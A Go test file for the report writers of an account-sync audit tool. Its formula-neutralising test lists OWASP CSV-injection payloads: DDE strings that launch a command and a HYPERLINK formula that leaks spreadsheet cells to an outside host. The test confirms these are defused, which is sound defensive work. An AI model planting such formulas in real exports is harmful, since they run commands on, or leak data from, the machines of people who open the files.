package report

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/syncaudit/syncaudit"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// sampleReport is a small report with every severity, a skipped action,
// cells that look like formulas and text that needs escaping.
func sampleReport() *syncaudit.Report {
	rep := &syncaudit.Report{
		Schema: syncaudit.ReportSchema,
		Tool:   syncaudit.Tool{Name: "syncaudit", Version: "test"},
		Run: syncaudit.Run{
			Tenant: "de-linde", TenantName: "Stichting De Linde", Structure: syncaudit.Board,
			RunDate: "2026-11-23", Language: "en", PolicyDigest: "abc",
		},
		Actions: []syncaudit.Action{
			{Kind: syncaudit.Create, Source: "las", SourceID: "1001", School: "12AB", Rule: "M4", State: syncaudit.Planned, Reason: "new pupil in group 7A"},
			{Kind: syncaudit.Update, Account: "A20", Field: "last_name", From: "Jansen", To: "=HYPERLINK(\"x\")", Source: "hr", Rule: "L2", State: syncaudit.Planned,
				Reason: "hr says so", Evidence: map[string]string{"source": "hr", "line": "14"}},
			{Kind: syncaudit.SoftDelete, Account: "A17", School: "12AB", Rule: "D3", State: syncaudit.Skipped, SkippedBy: "V1", Reason: "-absent from every source"},
		},
		Findings: []syncaudit.Finding{
			{Rule: "D9", Severity: syncaudit.Deny, Message: "600 of 1000 active accounts would be soft-deleted (60%)", Fix: "check the LAS export: is it truncated?"},
			{Rule: "M2", Severity: syncaudit.Deny, Account: "A3", Source: "las", SourceID: "1001", Message: "manual account A3 blocks las:1001,\nsee 100%", Fix: "delete A3"},
			{Rule: "E5", Severity: syncaudit.Warn, Account: "A5", Message: "entry not reviewed for 120 days", Fix: "review the entry", Evidence: map[string]string{"days": "120"}},
			{Rule: "D7", Severity: syncaudit.Info, Account: "A9", Message: "soft-deleted 45 days ago", Fix: "purge or restore"},
		},
		Rules: []syncaudit.Rule{
			{ID: "M2", Severity: "deny", Title: "Blocked by a manual account"},
			{ID: "M4", Severity: "info", Title: "New account"},
			{ID: "D7", Severity: "info", Title: "Purge candidate"},
			{ID: "D9", Severity: "deny", Title: "Mass-deletion guard"},
			{ID: "E5", Severity: "warn", Title: "Entry due for review"},
		},
	}
	rep.Summarise(1000)
	return rep
}

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run go test -update): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func TestWritersGolden(t *testing.T) {
	tests := []struct {
		name   string
		writer Writer
	}{
		{"table.golden", &Table{}},
		{"table_nl.golden", &Table{Lang: Dutch}},
		{"table_color.golden", &Table{Color: true}},
		{"junit.golden", JUnit{}},
		{"github.golden", GitHub{}},
		{"actions.csv.golden", CSV{}},
		{"actions_nl.csv.golden", CSV{Lang: Dutch}},
		{"json.golden", JSON{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tt.writer.Write(&buf, sampleReport()); err != nil {
				t.Fatalf("Write: %v", err)
			}
			golden(t, tt.name, buf.Bytes())
		})
	}
}

func TestNewWriter(t *testing.T) {
	tests := []struct {
		format  string
		wantErr bool
	}{
		{"table", false}, {"json", false}, {"junit", false}, {"github", false},
		{"xml", true}, {"", true}, {"TABLE", true},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			w, err := NewWriter(tt.format, WriterOptions{})
			if gotErr := err != nil; gotErr != tt.wantErr {
				t.Fatalf("NewWriter(%q) error = %v, want error %v", tt.format, err, tt.wantErr)
			}
			if err == nil && w == nil {
				t.Fatalf("NewWriter(%q) gave no writer", tt.format)
			}
		})
	}
}

func TestTableColour(t *testing.T) {
	for _, colour := range []bool{false, true} {
		var buf bytes.Buffer
		if err := (&Table{Color: colour}).Write(&buf, sampleReport()); err != nil {
			t.Fatal(err)
		}
		if got := strings.Contains(buf.String(), "\x1b["); got != colour {
			t.Errorf("Color %v: escape codes present = %v", colour, got)
		}
		if strings.Contains(buf.String(), "soft-deleted 45 days") {
			t.Errorf("info finding D7 listed in the table")
		}
	}
}

func TestTableDisabledRules(t *testing.T) {
	rep := sampleReport()
	rep.Run.DisabledRules = []string{"E7", "X2"}
	var buf bytes.Buffer
	if err := (&Table{}).Write(&buf, rep); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "Rules off:  E7, X2") {
		t.Errorf("table lacks the disabled rules:\n%s", buf.String())
	}
}

func TestTableMax(t *testing.T) {
	var buf bytes.Buffer
	if err := (&Table{Max: 1}).Write(&buf, sampleReport()); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "... and 2 more: see report.json") {
		t.Errorf("table with Max 1 lacks the more line:\n%s", buf.String())
	}
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+31 6", "'+31 6"}, {"-2", "'-2"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"Jansen", "Jansen"}, {"", ""}, {"a=b", "a=b"},
		// The examples of OWASP's CSV injection page.
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{`=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`,
			`'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`},
		{"=10+20+cmd|' /C calc'!A0", "'=10+20+cmd|' /C calc'!A0"},
	}
	for _, tt := range tests {
		if got := Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCSVReadsBack(t *testing.T) {
	snap := &syncaudit.Snapshot{Accounts: []syncaudit.Account{
		{ID: "A20", Schools: []string{"12AB", "34CD"}},
	}}
	tests := []struct {
		name  string
		csv   CSV
		comma rune
	}{
		{"en: comma", CSV{}, ','},
		{"nl: semicolon", CSV{Lang: Dutch}, ';'},
		{"sv: semicolon", CSV{Lang: Swedish}, ';'},
		{"nl, comma asked for", CSV{Lang: Dutch, Delimiter: ','}, ','},
		{"en, tab asked for", CSV{Delimiter: '\t'}, '\t'},
		{"with a snapshot", CSV{Snapshot: snap}, ','},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tt.csv.Write(&buf, sampleReport()); err != nil {
				t.Fatal(err)
			}
			// UTF-8 with a byte order mark, so Excel reads the names right.
			body, ok := strings.CutPrefix(buf.String(), "\xEF\xBB\xBF")
			if !ok {
				t.Fatalf("actions.csv starts with %q, want the UTF-8 byte order mark", buf.String()[:min(3, buf.Len())])
			}
			r := csv.NewReader(strings.NewReader(body))
			r.Comma = tt.comma
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("read actions.csv back: %v", err)
			}
			if len(rows) != 4 || len(rows[0]) != 15 {
				t.Fatalf("rows = %d of %d cells, want header + 3 of 15", len(rows), len(rows[0]))
			}
			if got, want := rows[2][5], `'=HYPERLINK("x")`; got != want {
				t.Errorf("update to = %q, want %q", got, want)
			}
			if got, want := rows[2][14], "line=14; source=hr"; got != want {
				t.Errorf("evidence = %q, want %q", got, want)
			}
			// An action whose rule named no school gets its account's schools.
			wantSchool := ""
			if tt.csv.Snapshot != nil {
				wantSchool = "12AB|34CD"
			}
			for _, row := range rows[1:] {
				if row[1] == "A20" && row[2] != wantSchool {
					t.Errorf("school of %s for A20 = %q, want %q", row[0], row[2], wantSchool)
				}
			}
		})
	}
}

func TestParseCSVDelimiter(t *testing.T) {
	tests := []struct {
		in      string
		want    rune
		wantErr bool
	}{
		{"", 0, false}, {",", ',', false}, {"comma", ',', false}, {";", ';', false},
		{"Semicolon", ';', false}, {"tab", '\t', false}, {`\t`, '\t', false}, {"|", 0, true}, {"x", 0, true},
	}
	for _, tt := range tests {
		got, err := ParseCSVDelimiter(tt.in)
		if got != tt.want || (err != nil) != tt.wantErr {
			t.Errorf("ParseCSVDelimiter(%q) = %q, %v; want %q, error %v", tt.in, got, err, tt.want, tt.wantErr)
		}
	}
}

func TestJUnitParses(t *testing.T) {
	var buf bytes.Buffer
	if err := (JUnit{}).Write(&buf, sampleReport()); err != nil {
		t.Fatal(err)
	}
	var doc junitSuites
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("parse junit: %v", err)
	}
	if doc.Tests != 5 || doc.Failures != 3 {
		t.Errorf("tests %d failures %d, want 5 cases (one per rule) and 3 failures (deny and warn)", doc.Tests, doc.Failures)
	}
}

func TestGitHubEscaping(t *testing.T) {
	var buf bytes.Buffer
	if err := (GitHub{}).Write(&buf, sampleReport()); err != nil {
		t.Fatal(err)
	}
	want := "::error title=syncaudit M2 account A3::manual account A3 blocks las:1001,%0Asee 100%25%0AFix: delete A3\n"
	if !strings.Contains(buf.String(), want) {
		t.Errorf("output lacks %q:\n%s", want, buf.String())
	}
	if strings.Contains(buf.String(), "::notice") || strings.Contains(buf.String(), "D7") {
		t.Errorf("info finding annotated:\n%s", buf.String())
	}
}
